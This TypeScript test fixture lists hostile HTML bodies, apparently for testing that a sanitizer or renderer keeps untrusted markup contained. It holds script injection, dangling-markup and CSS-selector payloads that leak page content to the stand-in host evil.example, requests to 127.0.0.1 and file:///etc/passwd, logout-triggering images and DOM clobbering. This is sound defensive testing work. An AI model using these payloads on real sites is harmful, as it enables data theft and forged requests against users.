/** Hostile markup, and what is hostile only where it is shown among a program's own markup. */
import { HOSTILE_MARKUP, HOT } from './hostile-markup.ts';

const EVIL = 'https://evil.example/';

export const HOSTILE_BODIES: Readonly<Record<string, string>> = {
  ...HOSTILE_MARKUP,
  'an end of the place that it stands in': `</div></article></main><script>${HOT}</script><div>`,
  'an end of the page': `</body></html><script>${HOT}</script>`,
  'an end of a comment and of a template': `--></template></noscript></title></style><img src=x onerror=${HOT}>`,
  'an address that nobody closes': `<p>甲</p><img src='${EVIL}?`,
  'an address of a link that nobody closes': `<a href="${EVIL}?`,
  'a style that nobody closes': `<p style="background:url(${EVIL}?`,
  'a form that takes what follows': `<form action="${EVIL}"><textarea name="a">`,
  'an option that takes what follows': `<form action="${EVIL}"><select><option>`,
  'a target for all links': `<base target="${EVIL}">`,
  'a name that stands for a part of the document': `<img name="cookie"><a id="location" href="${EVIL}">甲</a><form id="body"></form>`,
  'an id of the page': `<p id="content">甲</p><a href="#content">乙</a>`,
  'a class of the page': `<div class="masthead"><p class="name">甲</p></div><p class="skip foot notice">乙</p>`,
  'what lies over the page': `<div style="position:fixed;inset:0;z-index:9"><a href="${EVIL}">甲</a></div>`,
  'a style that reads the page': `<style>input[value^="a"]{background:url(${EVIL}a)}</style><link rel=stylesheet href="data:text/css,*{background:url(${EVIL})}">`,
  'a font from elsewhere': `<style>@font-face{font-family:x;src:url(${EVIL}x)}</style><font face="x">甲</font>`,
  'a link that is a picture of elsewhere': `<a href="/x"><img src="${EVIL}p.gif" srcset="${EVIL}p.gif 2x" sizes="1px"></a>`,
  'a picture of this machine': `<img src="http://127.0.0.1:9464/metrics"><img src="file:///etc/passwd"><img src="//127.0.0.1/a">`,
  'a page of the reader as a picture': `<img src="/logout"><img src="/pictures/../logout"><img src="/search?q=a">`,
  'a picture as a reader names it, and more': `<img src="/pictures/${'a'.repeat(64)}.svg#x"><img src="/pictures/${'a'.repeat(64)}.svg/../../logout">`,
  'an address without a host': `<a href="http:///">甲</a><a href="https:${EVIL.slice(6)}">乙</a><a href="////evil.example">丙</a><a href="\\\\evil.example">丁</a>`,
  'an address that is data': `<a href="data:text/html;base64,PHNjcmlwdD4x">甲</a><a href="blob:${EVIL}x">乙</a><a href="filesystem:${EVIL}">丙</a>`,
  'a sheet of sound': `<audio src="${EVIL}a" autoplay></audio><video poster="${EVIL}p" src="${EVIL}v"><track src="${EVIL}t"></video>`,
  'a place that is edited': `<p contenteditable onbeforeinput="${HOT}" oncontentvisibilityautostatechange="${HOT}" style="content-visibility:auto">甲</p>`,
  'what opens over the page': `<button popovertarget="x">甲</button><div popover id="x" onbeforetoggle="${HOT}">乙</div><dialog open>丙</dialog>`,
  'an element with its own parts': `<x-a is="x-b"><slot onslotchange="${HOT}"></slot></x-a><div><template shadowrootmode="open"><script>${HOT}</script></template></div>`,
  'rules of speculation': `<script type="speculationrules">{"prefetch":[{"urls":["${EVIL}"]}]}</script><link rel="dns-prefetch" href="${EVIL}">`,
  'a map of imports': `<script type="importmap">{"imports":{"a":"${EVIL}"}}</script><script type="module" src="${EVIL}"></script>`,
  'very deep': `${'<div>'.repeat(700)}<script>${HOT}</script>`,
  'very many attributes': `<p ${Array.from({ length: 900 }, (_, i) => `a${i}=1`).join(' ')} onclick="${HOT}">甲</p>`,
};
